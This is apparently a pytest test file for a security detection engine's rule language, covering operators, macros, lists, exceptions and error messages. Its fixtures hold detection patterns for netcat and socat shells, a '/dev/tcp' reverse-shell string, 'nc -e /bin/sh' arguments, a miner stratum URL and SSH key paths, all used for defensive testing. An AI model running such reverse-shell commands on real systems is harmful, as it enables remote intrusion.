"""The condition language: every operator, boolean structure, macros, lists, errors."""

from __future__ import annotations

import pytest

from bastion.errors import PolicyError
from bastion.events import Event, EventKind
from bastion.rules import PackSource, compile_sources


def pack(body: str, name: str = "t") -> PackSource:
    return PackSource(name, f"/packs/{name}.yaml", "- requires_engine: 1\n" + body)


def one_rule(condition: str, extra: str = "") -> object:
    text = f"""
{extra}
- rule: t.r
  desc: test rule
  condition: {condition!r}
  severity: high
  tags: [T1059]
"""
    return compile_sources([pack(text)])


def hits(ruleset, kind: str = "exec", **fields) -> bool:
    fields = {k.replace("__", "."): v for k, v in fields.items()}
    return "t.r" in ruleset.matching_rule_ids(Event(kind=EventKind(kind), fields=fields))


@pytest.mark.parametrize(
    ("condition", "fields", "expected"),
    [
        ("proc.name = nc", {"proc__name": "nc"}, True),
        ("proc.name = nc", {"proc__name": "ncat"}, False),
        ("proc.name == nc", {"proc__name": "nc"}, True),
        ("proc.name != nc", {"proc__name": "bash"}, True),
        ("proc.name != nc", {"proc__name": "nc"}, False),
        ("proc.name != nc", {}, False),  # missing field: every comparison is false
        ("not proc.name = nc", {}, True),
        ("proc.name in (nc, ncat, 'net cat')", {"proc__name": "net cat"}, True),
        ("proc.name in (nc, ncat)", {"proc__name": "socat"}, False),
        ("proc.exe contains '/dev/tcp/'", {"proc__exe": "bash -i >& /dev/tcp/h/1"}, True),
        ("proc.exe contains '/dev/tcp/'", {"proc__exe": "bash -i"}, False),
        ("proc.exe icontains STRATUM", {"proc__exe": "-o stratum+tcp://x"}, True),
        ("proc.exe contains STRATUM", {"proc__exe": "-o stratum+tcp://x"}, False),
        ("proc.exe startswith /tmp/", {"proc__exe": "/tmp/x"}, True),
        ("proc.exe startswith (/dev/shm/, /tmp/)", {"proc__exe": "/dev/shm/x"}, True),
        ("proc.exe endswith /ssh", {"proc__exe": "/usr/bin/ssh"}, True),
        ("proc.exe endswith /ssh", {"proc__exe": "/usr/bin/sshd"}, False),
        ("proc.exe glob '/home/*/.ssh/*'", {"proc__exe": "/home/a/.ssh/k"}, True),
        ("proc.exe glob '/home/*/.ssh/*'", {"proc__exe": "/root/.ssh/k"}, False),
        (r"proc.exe regex '-[a-zA-Z]*R\s+\d+:'", {"proc__exe": "ssh -NR 80:h:80 x"}, True),
        (r"proc.exe regex '^ssh\s'", {"proc__exe": "autossh -M 0 x"}, False),
        # list-valued fields: any element
        ("proc.args = -e", {"proc__args": ["nc", "-e", "/bin/sh"]}, True),
        ("proc.args in (-c, -e)", {"proc__args": ["nc", "-l"]}, False),
        ("proc.args contains bin/s", {"proc__args": ["nc", "/bin/sh"]}, True),
        ("proc.args != -e", {"proc__args": ["nc", "-l"]}, True),
        ("proc.args != -e", {"proc__args": ["nc", "-e"]}, False),
        ("proc.args regex '^-[a-z]*e$'", {"proc__args": ["nc", "-nve"]}, True),
        # numbers
        ("proc.uid > 999", {"proc__uid": 2000001}, True),
        ("proc.uid < 1000", {"proc__uid": 2000001}, False),
        ("proc.uid <= 5", {"proc__uid": 5}, True),
        ("proc.uid >= 6", {"proc__uid": 5}, False),
        ("proc.uid = 0x10", {"proc__uid": 16}, True),
        ("proc.partial = true", {"proc__partial": True}, True),
        ("proc.partial = false", {"proc__partial": True}, False),
        # presence
        ("proc.comm exists", {"proc__comm": "x"}, True),
        ("proc.comm exists", {}, False),
        # boolean structure and precedence: and binds tighter than or
        ("proc.name = a or proc.name = b and proc.uid = 1", {"proc__name": "a"}, True),
        ("(proc.name = a or proc.name = b) and proc.uid = 1", {"proc__name": "a"}, False),
        ("not (proc.name = a or proc.name = b)", {"proc__name": "c"}, True),
        ("not not proc.name = a", {"proc__name": "a"}, True),
    ],
)
def test_operators(condition: str, fields: dict, expected: bool) -> None:
    assert hits(one_rule(condition), **fields) is expected


def test_in_cidr() -> None:
    rs = one_rule("net.dst_ip in_cidr (10.0.0.0/8, 192.168.0.0/16, fd00::/8)")
    assert hits(rs, "net.connect", net__dst_ip="10.1.2.3")
    assert hits(rs, "net.connect", net__dst_ip="fd00::1")
    assert not hits(rs, "net.connect", net__dst_ip="203.0.113.10")
    assert not hits(rs, "net.connect", net__dst_ip="not-an-ip")
    single = one_rule("net.dst_ip in_cidr 169.254.169.254/32")
    assert hits(single, "net.connect", net__dst_ip="169.254.169.254")


def test_lists_and_macros_expand_including_nested_lists() -> None:
    extra = """
- list: base_tools
  items: [nc, ncat]
- list: all_tools
  items: [base_tools, socat]
- macro: is_tool
  condition: proc.name in (all_tools)
- macro: tool_with_exec
  condition: is_tool and proc.args in (-e, EXEC)
"""
    rs = one_rule("tool_with_exec", extra)
    assert hits(rs, proc__name="ncat", proc__args=["ncat", "-e"])
    assert hits(rs, proc__name="socat", proc__args=["socat", "EXEC"])
    assert not hits(rs, proc__name="curl", proc__args=["curl", "-e"])


def test_list_append_from_a_later_file_is_seen_by_earlier_rules() -> None:
    first = pack("""
- list: allowed
  items: [a]
- rule: t.r
  desc: d
  condition: proc.name in (allowed)
  severity: low
""", "first")
    second = pack("""
- list: allowed
  append: true
  items: [b]
""", "second")
    rs = compile_sources([first, second])
    assert hits(rs, proc__name="b")


def test_exceptions_silence_a_rule() -> None:
    text = """
- rule: t.r
  desc: d
  condition: proc.name = python3
  exceptions: ["proc.exe contains pytest", "proc.uid = 0"]
  severity: medium
"""
    rs = compile_sources([pack(text)])
    assert hits(rs, proc__name="python3", proc__exe="python3 x.py", proc__uid=5)
    assert not hits(rs, proc__name="python3", proc__exe="python3 -m pytest", proc__uid=5)
    assert not hits(rs, proc__name="python3", proc__exe="python3 x.py", proc__uid=0)


def test_kinds_are_indexed_from_condition_key_or_fields() -> None:
    text = """
- rule: t.by_fields
  desc: d
  condition: proc.name = nc
  severity: low
- rule: t.by_kind
  desc: d
  condition: kind in (net.connect, net.flow) and proc.name = nc
  severity: low
- rule: t.by_key
  desc: d
  condition: proc.name = nc
  kinds: [fork]
  severity: low
"""
    rs = compile_sources([pack(text)])
    assert rs.rule("t.by_fields").kinds == {"exec"}
    assert rs.rule("t.by_kind").kinds == {"net.connect", "net.flow"}
    assert rs.rule("t.by_key").kinds == {"fork"}
    ids = rs.matching_rule_ids(Event(kind=EventKind.NET_FLOW, fields={"proc.name": "nc"}))
    assert ids == ["t.by_kind"]
    ids = rs.matching_rule_ids(Event(kind=EventKind.FORK, fields={"proc.name": "nc"}))
    assert ids == ["t.by_key"]


def test_attribution_fields_are_usable() -> None:
    rs = one_rule("call.id = c7 and proc.pid = 42")
    ev = Event(kind=EventKind.EXEC, call_id="c7", pid=42, fields={})
    assert "t.r" in rs.matching_rule_ids(ev)


# ---------------------------------------------------------------- errors with positions


def error_for(text: str) -> PolicyError:
    with pytest.raises(PolicyError) as info:
        compile_sources([PackSource("t", "/packs/t.yaml", text)])
    return info.value


def test_unknown_field_points_at_file_line_column() -> None:
    err = error_for("""- requires_engine: 1
- rule: t.r
  desc: d
  condition: proc.name = nc and proc.nmae = x
  severity: low
""")
    assert err.file == "/packs/t.yaml"
    assert (err.line, err.column) == (4, 33)
    assert "proc.nmae" in str(err) and str(err).startswith("/packs/t.yaml:4:33:")


def test_syntax_error_in_folded_block_scalar_points_at_the_token() -> None:
    err = error_for("""- requires_engine: 1
- rule: t.r
  desc: d
  condition: >
    proc.name = nc
    and and proc.uid = 1
  severity: low
""")
    assert (err.line, err.column) == (6, 9)


def test_error_inside_macro_points_at_the_macro() -> None:
    err = error_for("""- requires_engine: 1
- macro: bad
  condition: proc.name regex '('
- rule: t.r
  desc: d
  condition: bad
  severity: low
""")
    assert err.line == 3 and "regex" in str(err)


@pytest.mark.parametrize(
    ("text", "needle"),
    [
        ("- requires_engine: 9\n", "rule engine 9"),
        ("- rule: t.r\n  desc: d\n  condition: proc.name = x\n  severity: low\n", "requires_engine"),
        ("- requires_engine: 1\n- rule: t.r\n  desc: d\n  condition: proc.name = x\n"
         "  severity: low\n  priority: high\n", "unknown key"),
        ("- requires_engine: 1\n- rule: t.r\n  desc: d\n  condition: proc.name = x\n"
         "  severity: urgent\n", "unknown severity"),
        ("- requires_engine: 1\n- rule: t.r\n  desc: d\n  condition: proc.name = x\n"
         "  severity: low\n  action: nuke\n", "unknown action"),
        ("- requires_engine: 1\n- rule: t.r\n  desc: d\n  condition: proc.name = x\n"
         "  severity: low\n- rule: t.r\n  desc: d\n  condition: proc.name = y\n"
         "  severity: low\n", "defined twice"),
        ("- requires_engine: 1\n- rule: t.r\n  desc: d\n  condition: proc.uid contains 1\n"
         "  severity: low\n", "string field"),
        ("- requires_engine: 1\n- rule: t.r\n  desc: d\n  condition: proc.name > 1\n"
         "  severity: low\n", "numeric field"),
        ("- requires_engine: 1\n- rule: t.r\n  desc: d\n  condition: proc.uid = abc\n"
         "  severity: low\n", "not a valid int"),
        ("- requires_engine: 1\n- rule: t.r\n  desc: d\n  condition: net.dst_ip in_cidr 10.0.0/99\n"
         "  severity: low\n", "bad network"),
        ("- requires_engine: 1\n- macro: m\n  condition: m\n- rule: t.r\n  desc: d\n"
         "  condition: m\n  severity: low\n", "refers to itself"),
        ("- requires_engine: 1\n- rule: t.r\n  desc: d\n  condition: proc.name = x\n"
         "  severity: low\n  output: '%proc.nope'\n", "unknown field %proc.nope"),
        ("- requires_engine: 1\n- rule: t.r\n  desc: d\n  condition: proc.name = x\n"
         "  severity: low\n  tests: {match: [{proc.bogus: 1}]}\n", "unknown field"),
        ("- requires_engine: 1\n- rule: t.r\n  desc: d\n  condition: (proc.name = x\n"
         "  severity: low\n", "expected ')'"),
        ("- requires_engine: 1\n- rule: t.r\n  desc: d\n  condition: proc.name in nc\n"
         "  severity: low\n", "parenthesised list"),
        ("- requires_engine: 1\n- rule: t.r\n  condition: proc.name = x\n  severity: low\n",
         "needs `desc`"),
        ("- requires_engine: 1\n- rule: t.r\n  desc: d\n  condition: proc.name = x\n"
         "  severity: low\n  kinds: [proces]\n", "unknown event kind"),
        ("[unclosed\n", "not valid YAML"),
    ],
)
def test_pack_errors(text: str, needle: str) -> None:
    err = error_for(text)
    assert needle in str(err)
    assert err.file == "/packs/t.yaml" and err.line is not None
